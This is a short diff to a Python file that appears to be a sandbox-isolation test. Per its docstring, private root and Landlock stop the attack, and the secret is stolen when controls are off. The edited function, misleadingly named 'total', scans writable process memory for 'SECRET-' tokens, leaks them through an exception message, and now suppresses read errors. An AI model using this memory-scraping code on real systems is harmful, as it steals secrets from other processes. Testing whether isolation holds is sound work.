@@ -5,6 +5,7 @@ stopped by: private root, Landlock
 control: off, stolen
 """
 
+import contextlib
 import json
 import re
 from pathlib import Path
@@ -20,6 +21,8 @@ def total(x):
             where, rights = line.split()[:2]
             begin, end = (int(text, 16) for text in where.split("-"))
             if rights == "rw-p" and end - begin < 1 << 24:
-                memory.seek(begin)
-                found.update(re.findall(rb"SECRET-[0-9a-f]{24}", memory.read(end - begin)))
+                # it is at work meanwhile, and may have given the memory back
+                with contextlib.suppress(OSError):
+                    memory.seek(begin)
+                    found.update(re.findall(rb"SECRET-[0-9a-f]{24}", memory.read(end - begin)))
     raise RuntimeError(str(found))
